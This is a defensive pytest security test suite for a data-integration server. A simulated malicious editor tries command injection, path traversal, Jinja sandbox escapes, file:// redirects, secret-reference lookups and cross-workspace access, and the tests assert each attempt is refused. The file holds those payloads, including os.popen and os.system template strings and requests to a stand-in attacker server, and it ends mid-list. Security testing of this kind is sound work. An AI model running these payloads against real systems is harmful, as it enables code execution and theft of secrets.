"""An editor of a workspace who means harm, over HTTP against a server as it is started, in both modes.

Whatever is tried: no program runs, no file outside the workspace's folder is read or made, nothing of another workspace
is seen or changed.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from kitestring.testing.stand_in import Answer, StandIn, route
from tests.integration.server.running import Running

pytestmark = pytest.mark.slow

PASSWORD = "correct horse battery"
OWN = "/api/kitestring/v1"
SECRETS = ("secret-of-the-machine", "token-of-the-victim", "record-of-the-victim")
VECTORS = {"embedding": {"mode": "fake"}, "processing": {"chunk_size": 100, "text_fields": ["body"]}}


class Lair(StandIn):
    """The attacker's own API: what is sent to it is kept, and its answers are of the attacker's choice."""

    @route("GET", "/things")
    def things(self, call: Any) -> Any:
        names = ["../../../../outside/evil", "/etc/evil", "good"]
        return [{"id": n, "name": name, "url": f"{self.url}/file"} for n, name in enumerate(names)]

    @route("GET", "/file")
    def file(self, call: Any) -> Any:
        return Answer(200, b"evil", {"Content-Type": "application/octet-stream"})

    @route("GET", "/away")
    def away(self, call: Any) -> Any:
        return Answer(302, b"", {"Location": "file:///etc/passwd"})

    @route("POST", "/token")
    def token(self, call: Any) -> Any:
        return {"access_token": str(self.stolen_place), "refresh_token": "new", "expires_in": 3600}

    stolen_place: Any = ""


class Arena:
    """A running server with an instance's admin, a victim's workspace and that of the editor, who attacks."""

    def __init__(self, folder: Path, hardened: bool, lair: Lair) -> None:
        self.hardened, self.lair = hardened, lair
        self.outside = folder / "outside"
        self.outside.mkdir(parents=True)
        (self.outside / "secret.txt").write_text("secret-of-the-machine")
        (self.outside / "secret.json").write_text('{"type": "object", "title": "secret-of-the-machine"}')
        self.canary = self.outside / "canary"
        mode = {"KITESTRING_ALLOW_PRIVATE_HOSTS": "false"} if hardened else {}
        secret = {"SECRET_OF_THE_SERVER": "secret-of-the-machine"}
        self.running = Running(folder, **mode, **secret)
        self.home = folder / "home"
        self.open = httpx.Client(base_url=self.running.url, timeout=600)
        organization = self.open.get("/v1/organizations").json()["data"][0]["organizationId"]
        self.workspaces = {
            name: self.open.post("/v1/workspaces", json={"name": name, "organizationId": organization}).json()[
                "workspaceId"
            ]
            for name in ("victim", "mine")
        }
        self.mine, self.victim = self.workspaces["mine"], self.workspaces["victim"]
        self.add("root@example.com")
        self.add("eve@example.com", "--workspace", self.mine, "--role", "workspace_editor")
        self.root, self.eve = self.client("root@example.com"), self.client("eve@example.com")
        self.theirs = {
            "source": self.made(self.root, "source", {"sourceType": "sample", "count": 3}, self.victim),
            "destination": self.made(self.root, "destination", self.lake(self.root, "victim"), self.victim),
        }
        self.own = {
            "source": self.made(self.eve, "source", {"sourceType": "sample", "count": 3}, self.mine),
            "destination": self.made(self.eve, "destination", self.lake(self.eve, "lake"), self.mine),
        }
        command = ["sh", "-c", f"touch {self.canary}"]
        self.admins = "" if hardened else self.made(
            self.root, "source", {"sourceType": "airbyte", "command": ["true"]}, self.mine
        )  # fmt: skip
        self.command = command
        streams = {"configurations": {"streams": [{"name": "users"}]}}
        link = {"sourceId": self.theirs["source"], "destinationId": self.theirs["destination"], **streams}
        answer = self.root.post("/v1/connections", json={"name": "record-of-the-victim", **link})
        assert answer.status_code == 200, answer.text
        self.theirs["connection"] = answer.json()["connectionId"]

    def lake(self, client: httpx.Client, name: str) -> dict[str, Any]:
        """A destination that works in this mode without being on the machine, where the mode forbids it."""
        if self.hardened:
            keys = {"key": "k", "secret": "token-of-the-victim"}
            return {"destinationType": "files", "path": f"s3://bucket/{name}", "storage_options": keys}
        return {"destinationType": "files", "path": name, "format": "jsonl"}

    def add(self, email: str, *words: str) -> None:
        subprocess.run(
            [sys.executable, "-m", "kitestring", "user", "add", email, "--password-stdin", *words],
            cwd=self.running.folder,
            env=self.running.environment,
            input=PASSWORD,
            text=True,
            check=True,
            capture_output=True,
        )

    def client(self, email: str) -> httpx.Client:
        basic = base64.b64encode(f"{email}:{PASSWORD}".encode()).decode()
        headers = {"Authorization": f"Basic {basic}"}
        made = httpx.Client(base_url=self.running.url, timeout=600, headers=headers)
        app = made.post("/v1/applications", json={"name": "x"}).json()
        pair = {"client_id": app["clientId"], "client_secret": app["clientSecret"]}
        token = made.post("/v1/applications/token", json=pair).json()["access_token"]
        made.headers["Authorization"] = f"Bearer {token}"
        return made

    def made(self, client: httpx.Client, kind: str, config: dict[str, Any], workspace_id: str) -> str:
        body = {"name": f"record-of-{kind}", "workspaceId": workspace_id, "configuration": config}
        answer = client.post(f"/v1/{kind}s", json=body)
        assert answer.status_code == 200, answer.text
        return str(answer.json()[f"{kind}Id"])

    def outside_now(self) -> dict[str, Any]:
        return {str(path): path.stat().st_mtime_ns for path in sorted(self.outside.rglob("*"))}

    def close(self) -> None:
        self.running.stop()


@pytest.fixture(scope="module", params=[False, True], ids=["normal", "hardened"])
def arena(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Arena]:
    with Lair() as lair:
        made = Arena(tmp_path_factory.mktemp("arena"), request.param, lair)
        lair.stolen_place = made.outside / "stolen"
        yield made
        made.close()


@pytest.fixture(autouse=True)
def nothing_outside(arena: Arena) -> Iterator[None]:
    """After each attack: nothing ran, nothing outside was touched, nothing secret reached the attacker."""
    before = arena.outside_now()
    yield
    time.sleep(0.1)
    assert not arena.canary.exists()
    assert arena.outside_now() == before
    for call in arena.lair.requests:
        sent = repr(call)
        assert not any(secret in sent for secret in SECRETS), sent


def manifest(arena: Arena, **more: Any) -> dict[str, Any]:
    """A low-code source of one stream of the attacker's API."""
    requester = {"type": "HttpRequester", "url_base": arena.lair.url, "path": "/things", **more.pop("requester", {})}
    stream = {
        "type": "DeclarativeStream",
        "name": "things",
        "primary_key": ["id"],
        "retriever": {
            "type": "SimpleRetriever",
            "requester": requester,
            "record_selector": {
                "type": "RecordSelector",
                "extractor": {"type": "DpathExtractor", "field_path": []},
                **more.pop("selector", {}),
            },
        },
        "schema_loader": {"type": "InlineSchemaLoader", "schema": {"type": "object", "properties": {}}},
        **more.pop("stream", {}),
    }
    return {
        "type": "DeclarativeSource",
        "version": "6.0.0",
        "check": {"type": "CheckStream", "stream_names": [stream["name"]]},
        "streams": [stream],
        "spec": {"type": "Spec", "connection_specification": {"type": "object", "properties": {}}},
        **more,
    }


def refused(answer: httpx.Response) -> str:
    """What an answer says that must not be a success, nor hold a secret."""
    text = answer.text
    assert not any(secret in text for secret in SECRETS), text
    if answer.status_code == 200:
        assert answer.json().get("status") == "failed", text
    assert answer.status_code < 500 or answer.status_code == 503, text
    return text


PROGRAMS: list[tuple[str, dict[str, Any]]] = [
    ("source", {"sourceType": "airbyte", "command": ["COMMAND"]}),
    ("source", {"sourceType": "airbyte", "path": "/bin/sh"}),
    ("source", {"sourceType": "airbyte", "image": "alpine"}),
    ("source", {"sourceType": "airbyte", "package": "airbyte-source-faker==6.2.0"}),
    ("source", {"sourceType": "airbyte", "package": "x", "executable": "sh", "python": "/bin/sh"}),
    ("source", {"sourceType": "singer", "command": ["COMMAND"]}),
    ("destination", {"destinationType": "airbyte", "command": ["COMMAND"]}),
    ("destination", {"destinationType": "airbyte", "image": "alpine"}),
]


def filled(node: Any, arena: Arena) -> Any:
    if node == ["COMMAND"]:
        return arena.command
    if isinstance(node, dict):
        return {key: filled(value, arena) for key, value in node.items()}
    return node.replace("OUTSIDE", str(arena.outside)) if isinstance(node, str) else node


@pytest.mark.parametrize(("kind", "config"), PROGRAMS)
def test_no_way_leads_to_a_program(arena: Arena, kind: str, config: dict[str, Any]) -> None:
    every_way(arena, kind, filled(config, arena))


def every_way(arena: Arena, kind: str, config: dict[str, Any]) -> None:
    """A configuration by each of the ways to a connector; all refuse it."""
    eve, named = arena.eve, f"{kind}Type"
    bare = {key: value for key, value in config.items() if key != named}
    draft = {"kind": kind, "workspaceId": arena.mine, "configuration": config}
    refused(eve.post(f"{OWN}/check", json=draft))
    body = {"name": "x", "workspaceId": arena.mine, "configuration": config}
    assert eve.post(f"/v1/{kind}s", json=body).status_code in (400, 422)
    connector = eve.get(f"{OWN}/connectors/{kind}/{config[named]}").json()
    definition = connector["definitionId"]
    body = {"name": "x", "workspaceId": arena.mine, "configuration": bare, "definitionId": definition}
    assert eve.post(f"/api/public/v1/{kind}s", json=body).status_code in (400, 422)
    body = {"name": "x", "workspaceId": arena.mine, "connectionConfiguration": bare, f"{kind}DefinitionId": definition}
    assert eve.post(f"/api/v1/{kind}s/create", json=body).status_code in (400, 422)
    wanted = {f"{kind}s": {"evil": {"connector": config[named], "config": bare}}}
    assert eve.post(f"{OWN}/project/apply", json={"workspaceId": arena.mine, "wanted": wanted}).status_code == 422
    names = [one["name"] for one in eve.get(f"/v1/{kind}s?workspaceIds={arena.mine}&limit=100").json()["data"]]
    assert not {"x", "evil"} & set(names)


PLACES: list[tuple[str, dict[str, Any]]] = [
    ("destination", {"destinationType": "duckdb", "path": "OUTSIDE/x.duckdb"}),
    ("destination", {"destinationType": "duckdb", "destination_path": "OUTSIDE/x.duckdb"}),
    ("destination", {"destinationType": "duckdb", "path": "../../../outside/x.duckdb"}),
    ("destination", {"destinationType": "duckdb", "path": "md:evil"}),
    ("destination", {"destinationType": "files", "path": "OUTSIDE/x"}),
    ("destination", {"destinationType": "files", "path": "file://OUTSIDE/x"}),
    ("destination", {"destinationType": "files", "path": "FILE://OUTSIDE/x"}),
    ("destination", {"destinationType": "files", "path": "local://OUTSIDE/x"}),
    ("destination", {"destinationType": "files", "path": "dir::file://OUTSIDE/x"}),
    ("destination", {"destinationType": "files", "path": "zip://x::file://OUTSIDE/x.zip"}),
    ("destination", {"destinationType": "files", "path": "~/x"}),
    ("destination", {"destinationType": "files", "path": "simplecache::s3://b/x"}),
    ("destination", {"destinationType": "files", "path": "sftp://127.0.0.1/x"}),
    ("destination", {"destinationType": "files", "path": "s3://bucket/x"}),
    ("destination", {"destinationType": "milvus", "indexing": {"host": "OUTSIDE/x.db", "collection": "c"}, **VECTORS}),
    (
        "destination",
        {
            "destinationType": "milvus",
            "indexing": {"host": "unix:OUTSIDE/x.sock", "collection": "c"},
            **VECTORS,
        },
    ),
    (
        "destination",
        {
            "destinationType": "milvus",
            "indexing": {"host": "https://1.1.1.1", "collection": "c", "tls": {"ca_file": "OUTSIDE/secret.txt"}},
            **VECTORS,
        },
    ),
    (
        "destination",
        {
            "destinationType": "milvus",
            "indexing": {"host": "http://1.1.1.1", "collection": "c"},
            **VECTORS,
            "embedding": {"mode": "local", "model_path": "OUTSIDE"},
        },
    ),
    (
        "destination",
        {
            "destinationType": "milvus",
            "indexing": {"host": "http://1.1.1.1", "collection": "c"},
            **VECTORS,
            "shadow_folder": "OUTSIDE",
        },
    ),
    ("source", {"sourceType": "postgres", "host": "/var/run/postgresql"}),
    ("source", {"sourceType": "postgres", "url": "postgresql://127.0.0.1/x?passfile=OUTSIDE/secret.txt"}),
    ("source", {"sourceType": "postgres", "url": "host=127.0.0.1 sslrootcert=OUTSIDE/secret.txt"}),
    (
        "source",
        {
            "sourceType": "zendesk-support",
            "subdomain": "acme",
            "start_date": "2024-01-01T00:00:00Z",
            "credentials": {"credentials": "api_token", "email": "a@example.com", "api_token": "t"},
            "files_folder": "OUTSIDE",
        },
    ),
]


@pytest.mark.parametrize(("kind", "config"), PLACES)
def test_no_way_leads_to_a_place_of_the_machine(arena: Arena, kind: str, config: dict[str, Any]) -> None:
    every_way(arena, kind, filled(config, arena))


def test_what_an_admin_has_set_up_is_not_turned_into_something_else(arena: Arena) -> None:
    if arena.hardened:
        pytest.skip("a hardened server has no programs")
    eve, source = arena.eve, arena.admins
    evil = {"sourceType": "airbyte", "command": arena.command}
    for answer in (
        eve.patch(f"/v1/sources/{source}", json={"configuration": {"command": arena.command}}),
        eve.patch(f"/v1/sources/{source}", json={"configuration": {"environment": {"BASH_ENV": "x"}}}),
        eve.patch(f"/v1/sources/{source}", json={"configuration": {"config": {"a": 1}}}),
        eve.put(f"/v1/sources/{source}", json={"name": "x", "configuration": evil}),
        eve.post(
            "/api/v1/sources/update",
            json={"sourceId": source, "name": "x", "connectionConfiguration": {"command": arena.command}},
        ),
    ):
        assert answer.status_code == 422, answer.text
    draft = {"kind": "source", "workspaceId": arena.mine, "sourceId": source, "configuration": evil}
    refused(eve.post(f"{OWN}/check", json=draft))
    # A name, and what is there already, change nothing: the admin's source still runs, and fails by itself.
    assert eve.patch(f"/v1/sources/{source}", json={"name": "renamed"}).status_code == 200
    assert eve.patch(f"/v1/sources/{source}", json={"configuration": {}}).status_code == 200
    assert "runs a program" not in eve.post(f"{OWN}/sources/{source}/check").text


CODE = {"type": "CustomRecordExtractor", "class_name": "os.system", "command": "id"}


def test_a_manifest_brings_no_code_and_no_file(arena: Arena) -> None:
    eve = arena.eve
    place = f"/v1/workspaces/{arena.mine}/definitions/declarative_sources"
    hidden = manifest(arena, selector={"extractor": {"$ref": "#/definitions/evil"}}, definitions={"evil": CODE})
    for values in (
        manifest(arena, selector={"extractor": CODE}),
        manifest(arena, selector={"extractor": {"class_name": "os.system"}}),
        manifest(arena, requester={"authenticator": {"type": "CustomAuthenticator", "class_name": "os.system"}}),
        manifest(arena, stream={"transformations": [{"type": "CustomTransformation", "class_name": "os.system"}]}),
        hidden,
    ):
        assert eve.post(place, json={"name": "evil", "manifest": values}).status_code == 422
        reading = {"workspaceId": arena.mine, "manifest": values, "stream": "things"}
        said = eve.post(f"{OWN}/builder/read", json=reading)
        assert said.status_code == 422 or said.json()["error"], said.text
        wanted = {"sources": {"evil": {"connector": "manifest", "manifest": values}}}
        assert eve.post(f"{OWN}/project/apply", json={"workspaceId": arena.mine, "wanted": wanted}).status_code == 422


@pytest.mark.parametrize(
    "path", ["OUTSIDE/secret.json", "../../outside/secret.json", "file://OUTSIDE/secret.json", "./secret.json"]
)
def test_a_schema_file_of_a_manifest_is_no_file_of_the_server(arena: Arena, path: str) -> None:
    loader = {"schema_loader": {"type": "JsonFileSchemaLoader", "file_path": filled(path, arena)}}
    values = manifest(arena, stream=loader)
    for verb, more in (("read", {"stream": "things"}), ("validate", {}), ("resolve", {})):
        answer = arena.eve.post(f"{OWN}/builder/{verb}", json={"workspaceId": arena.mine, "manifest": values, **more})
        assert "secret-of-the-machine" not in answer.text


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{{ lipsum.__globals__['os'].popen('touch OUTSIDE/canary').read() }}",
        "{{ cycler.__init__.__globals__.os.system('touch OUTSIDE/canary') }}",
        "{{ self.__init__.__globals__ }}",
        "{{ now_utc.__globals__ }}",
        "{% include 'OUTSIDE/secret.txt' %}",
        "{% import 'os' as os %}{{ os }}",
        "{{ config|attr('__class__') }}",
        "{{ ('%c'|format(95))*2 }}{{ config|map(attribute='__class__')|list }}",
        "{{ range.__self__ }}",
        "{{ env('SECRET_OF_THE_SERVER') }}{{ environ }}",
    ],
)
def test_a_template_stays_in_its_sandbox(arena: Arena, template: str) -> None:
    values = manifest(arena, requester={"request_headers": {"X-Stolen": filled(template, arena)}})
    reading = {"workspaceId": arena.mine, "manifest": values, "stream": "things"}
    text = arena.eve.post(f"{OWN}/builder/read", json=reading).text
    for sign in ("<class", "subprocess", "built-in", "secret-of-the-machine", "<module"):
        assert sign not in text.replace(json.dumps(template)[1:-1], ""), text


@pytest.mark.parametrize(
    "base", ["file://OUTSIDE", "file:///", "ftp://127.0.0.1", "unix://OUTSIDE/x.sock", "gopher://127.0.0.1", "data:x,"]
)
def test_an_address_of_a_source_is_one_of_http(arena: Arena, base: str) -> None:
    values = manifest(arena, requester={"url_base": filled(base, arena), "path": "secret.txt"})
    reading = {"workspaceId": arena.mine, "manifest": values, "stream": "things"}
    answer = arena.eve.post(f"{OWN}/builder/read", json=reading)
    assert "secret-of-the-machine" not in answer.text
    assert answer.status_code == 422 or not [p for s in answer.json()["slices"] for p in s["pages"] if p["records"]]


def test_a_redirect_leads_to_no_file(arena: Arena) -> None:
    values = manifest(arena, requester={"path": "/away"})
    answer = arena.eve.post(
        f"{OWN}/builder/read", json={"workspaceId": arena.mine, "manifest": values, "stream": "things"}
    )
    assert "root:" not in answer.text


FILES = {
    "file_uploader": {
        "type": "FileUploader",
        "requester": {"type": "HttpRequester", "url_base": "{{ download_target }}", "path": ""},
        "download_target_extractor": {"type": "DpathExtractor", "field_path": ["url"]},
        "filename_extractor": "{{ record.name }}",
    }
}


def test_fetched_files_stay_in_the_folder_of_the_workspace(arena: Arena) -> None:
    values = manifest(arena, stream=FILES)
    body = {"workspaceId": arena.mine, "manifest": values, "stream": "things"}
    for folder in (str(arena.outside), "../../outside", "files"):
        answer = arena.eve.post(f"{OWN}/builder/read", json={**body, "configuration": {"files_folder": folder}})
        assert answer.status_code == 422 or "evil" not in str(list(arena.outside.iterdir()))
    if not arena.hardened:
        place = f"/v1/workspaces/{arena.mine}/definitions/declarative_sources"
        made = arena.eve.post(place, json={"name": "fetched", "manifest": values}).json()
        config = {"files_folder": "files"}
        body = {"name": "f", "workspaceId": arena.mine, "definitionId": made["id"], "configuration": config}
        source = arena.eve.post("/v1/sources", json=body).json()["sourceId"]
        arena.eve.post(f"{OWN}/sources/{source}/read", json={"stream": "things"})
        fetched = [path for path in arena.home.rglob("*") if path.is_file() and path.read_bytes() == b"evil"]
        assert fetched
        assert all(path.is_relative_to(arena.home / "workspaces" / arena.mine / "files") for path in fetched)
    # The manifest's own word for another configuration while it is checked chooses no folder either.
    values["check"] |= {"config_overrides": {"files_folder": str(arena.outside)}}
    place = f"/v1/workspaces/{arena.mine}/definitions/declarative_sources"
    made = arena.eve.post(place, json={"name": "files", "manifest": values})
    if made.status_code == 200:
        draft = {"kind": "source", "workspaceId": arena.mine, "definitionId": made.json()["id"], "configuration": {}}
        arena.eve.post(f"{OWN}/check", json=draft)


def test_a_token_that_is_renewed_writes_no_option_of_the_platform(arena: Arena) -> None:
    """A manifest chooses where in the configuration a new token is kept: not in the place of a folder."""
    authenticator = {
        "type": "OAuthAuthenticator",
        "token_refresh_endpoint": f"{arena.lair.url}/token",
        "client_id": "a",
        "client_secret": "b",
        "refresh_token_updater": {
            "refresh_token_config_path": ["r"],
            "access_token_config_path": ["files_folder"],
            "token_expiry_date_config_path": ["b"],
        },
    }
    values = manifest(arena, requester={"authenticator": authenticator}, stream=FILES)
    place = f"/v1/workspaces/{arena.mine}/definitions/declarative_sources"
    made = arena.eve.post(place, json={"name": "renewed", "manifest": values})
    assert made.status_code == 200, made.text
    # An admin who trusts that connector makes a source with it.
    config = {"r": "old"}
    body = {"name": "s", "workspaceId": arena.mine, "definitionId": made.json()["id"], "configuration": config}
    answer = arena.root.post("/v1/sources", json=body)
    assert answer.status_code == 200, answer.text
    source = answer.json()["sourceId"]
    for _ in range(2):
        arena.eve.post(f"{OWN}/sources/{source}/read", json={"stream": "things"})
    config = arena.root.get(f"/v1/sources/{source}").json()["configuration"]
    assert "files_folder" not in config
    if not arena.hardened:
        assert arena.lair.calls("/token")
        assert config["r"] == "new"  # what a manifest may keep is kept


@pytest.mark.parametrize(
    "reference",
    [
        "${file:OUTSIDE/secret.txt}",
        "${env:SECRET_OF_THE_SERVER}",
        "${env:KITESTRING_SECRET_KEY}",
        "${env:HOME}",
        "${file:HOME/secrets/../secret.key}",
        "${file:HOME/secret.key}",
        "${vault:secret/data/x#y}",
    ],
)
def test_a_reference_leads_to_no_secret_of_the_server(arena: Arena, reference: str) -> None:
    text = filled(reference, arena).replace("HOME/", f"{arena.home}/")
    form = {"type": "object", "properties": {"token": {"type": "string", "airbyte_secret": True}}}
    values = manifest(
        arena,
        requester={"authenticator": {"type": "BearerAuthenticator", "api_token": "{{ config['token'] }}"}},
        spec={"type": "Spec", "connection_specification": form},
    )
    place = f"/v1/workspaces/{arena.mine}/definitions/declarative_sources"
    made = arena.eve.post(place, json={"name": "r", "manifest": values}).json()
    body = {
        "kind": "source", "workspaceId": arena.mine, "definitionId": made["id"], "configuration": {"token": text},
    }  # fmt: skip
    refused(arena.eve.post(f"{OWN}/check", json=body))


@pytest.mark.parametrize("word", ["OUTSIDE/evil.yaml", "../../outside/evil.yaml", "source-x@../../outside/evil.yaml"])
def test_a_connectors_name_is_no_path(arena: Arena, word: str) -> None:
    name = filled(word, arena)
    draft = {"kind": "source", "workspaceId": arena.mine, "configuration": {"sourceType": name}}
    assert arena.eve.post(f"{OWN}/check", json=draft).status_code in (400, 404, 422)
    for connector, version in ((name, None), ("source-faker", "../../../outside/evil.yaml")):
        one = {"connector": connector, **({"version": version} if version else {})}
        body = {"workspaceId": arena.mine, "wanted": {"sources": {"evil": one}}}
        assert arena.eve.post(f"{OWN}/project/apply", json=body).status_code in (400, 404, 422)
    body = {"name": "x", "dockerRepository": name, "dockerImageTag": "evil.yaml"}
    made = arena.eve.post(f"/v1/workspaces/{arena.mine}/definitions/sources", json=body)
    if made.status_code == 200:
        create = {"name": "x", "workspaceId": arena.mine, "definitionId": made.json()["id"], "configuration": {}}
        assert arena.eve.post("/v1/sources", json=create).status_code in (400, 404, 422)


@pytest.mark.parametrize(
    "name", ["../../../outside/evil", "/OUTSIDE/evil", "..", "a/../../../outside/evil", ".kitestring/x"]
)
def test_a_name_of_a_stream_leads_nowhere(arena: Arena, name: str) -> None:
    if arena.hardened:
        pytest.skip("a hardened server writes no local files")
    eve, name, written = arena.eve, filled(name, arena), 0
    for kind, config in (
        ("files", {"path": "names", "format": "jsonl"}),
        ("duckdb", {"path": "names.duckdb"}),
    ):
        destination = arena.made(eve, "destination", {"destinationType": kind, **config}, arena.mine)
        stream = {"name": "users", "destinationObjectName": name}
        body = {
            "name": "evil",
            "sourceId": arena.own["source"],
            "destinationId": destination,
            "prefix": name,
            "namespaceDefinition": "custom_format",
            "namespaceFormat": name,
            "configurations": {"streams": [stream]},
        }
        made = eve.post("/v1/connections", json=body)
        if made.status_code != 200:
            continue
        connection = made.json()["connectionId"]
        job = eve.post("/v1/jobs", json={"connectionId": connection, "jobType": "sync"}).json()["jobId"]
        deadline = time.monotonic() + 600
        while eve.get(f"/v1/jobs/{job}").json()["status"] in ("pending", "running") and time.monotonic() < deadline:
            time.sleep(0.2)
        written += eve.get(f"/v1/jobs/{job}").json()["status"] == "succeeded"
        eve.delete(f"/v1/connections/{connection}")
    assert written
    folder = arena.home / "workspaces"
    assert [path.name for path in folder.iterdir() if path.name not in arena.workspaces.values()] == []


def test_nothing_of_another_workspace_is_seen_or_changed(arena: Arena) -> None:
    eve, theirs, own = arena.eve, arena.theirs, arena.own
    connection, source, destination = theirs["connection"], theirs["source"], theirs["destination"]
    job = arena.root.post("/v1/jobs", json={"connectionId": connection, "jobType": "sync"}).json()["jobId"]
    streams = {"configurations": {"streams": [{"name": "users"}]}}
    draft = {"kind": "source", "configuration": {"sourceType": "sample"}}
    pair = {"client_id": "a", "client_secret": "b"}
    client = {"actorType": "source", "name": "github", "configuration": pair}
    for method, path, body in (
        ("GET", f"/v1/sources/{source}", None),
        ("PATCH", f"/v1/sources/{source}", {"name": "mine"}),
        ("DELETE", f"/v1/sources/{source}", None),
        ("GET", f"/v1/destinations/{destination}", None),
        ("PUT", f"/v1/destinations/{destination}", {"name": "m", "configuration": {}}),
        ("GET", f"/v1/connections/{connection}", None),
        ("DELETE", f"/v1/connections/{connection}", None),
        ("PATCH", f"/v1/connections/{connection}", {"name": "mine"}),
        ("POST", "/v1/connections", {"sourceId": source, "destinationId": own["destination"], **streams}),
        ("POST", "/v1/connections", {"sourceId": own["source"], "destinationId": destination, **streams}),
        ("GET", f"/v1/streams?sourceId={source}", None),
        ("POST", "/v1/jobs", {"connectionId": connection, "jobType": "sync"}),
        ("GET", f"/v1/jobs/{job}", None),
        ("DELETE", f"/v1/jobs/{job}", None),
        ("GET", f"/v1/jobs?connectionId={connection}", None),
        ("GET", f"/v1/workspaces/{arena.victim}", None),
        ("POST", "/v1/sources", {"name": "x", "workspaceId": arena.victim, "configuration": {"sourceType": "sample"}}),
        ("POST", "/api/v1/sources/get", {"sourceId": source}),
        ("POST", "/api/v1/sources/list", {"workspaceId": arena.victim}),
        ("POST", "/api/v1/connections/get", {"connectionId": connection}),
        ("POST", "/api/v1/jobs/get", {"id": job}),
        ("POST", "/api/v1/jobs/list", {"configId": connection, "configTypes": ["sync"]}),
        ("POST", "/api/v1/state/get", {"connectionId": connection}),
        ("GET", f"{OWN}/jobs/{job}", None),
        ("GET", f"{OWN}/jobs/{job}/attempts/1/log", None),
        ("GET", f"{OWN}/jobs/{job}/events", None),
        ("POST", f"{OWN}/jobs/{job}/cancel", None),
        ("GET", f"{OWN}/connections/{connection}/state", None),
        ("PUT", f"{OWN}/connections/{connection}/state", {"states": {}}),
        ("POST", f"{OWN}/connections/{connection}/sync", None),
        ("POST", f"{OWN}/connections/{connection}/estimate", {}),
        ("POST", f"{OWN}/sources/{source}/read", {"stream": "users"}),
        ("POST", f"{OWN}/sources/{source}/discover", None),
        ("POST", f"{OWN}/destinations/{destination}/search", {"text": "x"}),
        ("POST", f"{OWN}/check", {**draft, "workspaceId": arena.mine, "sourceId": source}),
        ("POST", f"{OWN}/check", {**draft, "workspaceId": arena.victim}),
        ("GET", f"{OWN}/project/export?workspaceId={arena.victim}", None),
        ("GET", f"{OWN}/project/export?workspaceId={arena.mine}&workspaceId={arena.victim}", None),
        ("POST", f"{OWN}/project/apply", {"workspaceId": arena.victim, "wanted": {}, "prune": True}),
        ("GET", f"{OWN}/audit?workspaceId={arena.victim}", None),
        ("POST", f"{OWN}/consents", {"workspaceId": arena.victim, "connector": "github", "redirectUrl": "https://x"}),
        ("PUT", f"/v1/workspaces/{arena.victim}/oauthCredentials", client),
    ):
        answer = eve.request(method, path, json=body)
        assert answer.status_code in (400, 403, 404, 422), (method, path, answer.status_code, answer.text)
        assert not any(secret in answer.text for secret in SECRETS), (path, answer.text)
    for path in (
        "/v1/sources", "/v1/destinations", "/v1/connections", "/v1/jobs", "/v1/workspaces", "/v1/tags",
        f"/v1/sources?workspaceIds={arena.victim}", f"/v1/jobs?workspaceIds={arena.victim}", f"{OWN}/connections",
        f"{OWN}/connections?workspaceIds={arena.victim}", f"{OWN}/jobs", "/v1/sources?includeDeleted=true",
    ):  # fmt: skip
        answer = eve.get(path)
        assert arena.victim not in answer.text.replace(path, ""), path
        assert not any(secret in answer.text for secret in SECRETS), (path, answer.text)


def test_an_editor_gives_nobody_a_role_and_sees_nothing_of_the_instance(arena: Arena) -> None:
    eve = arena.eve
    me = eve.get(f"{OWN}/session").json()["userId"]
    told = {"notifications": {"failure": {"webhook": "http://x"}}}
    grant = {"userId": me, "workspaceId": arena.mine, "permissionType": "workspace_admin"}
    for method, path, body in (
        ("POST", "/v1/permissions", grant),
        ("POST", "/v1/permissions", {"userId": me, "permissionType": "instance_admin"}),
        ("POST", "/v1/permissions", {**grant, "workspaceId": arena.victim}),
        ("POST", f"{OWN}/users", {"email": "evil@example.com", "permissions": [{"permissionType": "instance_admin"}]}),
        ("PATCH", f"{OWN}/users/{me}", {"disabled": False}),
        ("GET", f"{OWN}/users", None),
        ("GET", f"{OWN}/settings", None),
        ("GET", f"{OWN}/workers", None),
        ("GET", f"{OWN}/audit", None),
        ("POST", f"{OWN}/connectors/source/source-faker/install", None),
        ("PATCH", f"/v1/workspaces/{arena.mine}", {"name": "x"}),
        ("DELETE", f"/v1/workspaces/{arena.mine}", None),
        ("POST", "/v1/workspaces", {"name": "x"}),
        ("POST", f"{OWN}/notifications/test", {"workspaceId": arena.mine, "way": "apprise", "url": "syslog://"}),
        ("POST", f"{OWN}/project/apply", {"workspaceId": arena.mine, "wanted": told}),
    ):
        answer = eve.request(method, path, json=body)
        assert answer.status_code in (403, 404, 422), (method, path, answer.status_code, answer.text)


def test_an_id_of_another_workspace_is_found_wherever_it_hides_in_a_request(arena: Arena) -> None:
    eve, theirs, own = arena.eve, arena.theirs, arena.own
    connection = theirs["connection"]
    if not arena.hardened:
        link = {"sourceId": own["source"], "destinationId": own["destination"]}
        body = {"name": "own", **link, "configurations": {"streams": [{"name": "users"}]}}
        own = {**own, "connection": eve.post("/v1/connections", json=body).json()["connectionId"]}
    tag = arena.root.post("/v1/tags", json={"workspaceId": arena.victim, "name": "t", "color": "FFFFFF"})
    tag_id = tag.json()["tagId"]
    before = arena.root.get(f"{OWN}/connections/{connection}/state").json()
    mine = own.get("connection", connection)
    state = {"stateType": "stream", "connectionId": connection, "streamState": []}
    for method, path, body in (
        ("POST", "/api/v1/state/create_or_update", {"connectionId": connection, "connectionState": state}),
        ("POST", "/api/v1/state/create_or_update_safe", {"connectionId": connection, "connectionState": state}),
        ("POST", "/api/v1/connections/reset", {"connectionId": connection}),
        ("POST", "/api/v1/connections/delete", {"connectionId": connection}),
        ("POST", "/api/v1/connections/update", {"connectionId": connection, "status": "inactive"}),
        ("POST", "/api/v1/web_backend/connections/get", {"connectionId": connection}),
        ("POST", "/api/v1/web_backend/connections/update", {"connectionId": mine, "sourceId": theirs["source"]}),
        ("POST", "/api/v1/workspaces/get_by_connection_id", {"connectionId": connection}),
        ("POST", "/api/v1/workspaces/get", {"workspaceId": arena.victim.upper()}),
        ("POST", "/api/v1/workspaces/get", {"workspaceId": f"{{{arena.victim}}}"}),
        ("POST", "/api/v1/sources/get/", {"sourceId": theirs["source"].replace("-", "")}),
        ("POST", f"/v1/jobs?connectionId={mine}", {"connectionId": connection, "jobType": "sync"}),
        ("POST", f"/v1/connections?sourceId={own['source']}", {**theirs, "sourceId": theirs["source"]}),
        ("PATCH", f"/v1/connections/{mine}", {"tags": [{"tagId": tag_id, "workspaceId": arena.mine}]}),
        ("GET", f"/v1/tags/{tag_id}", None),
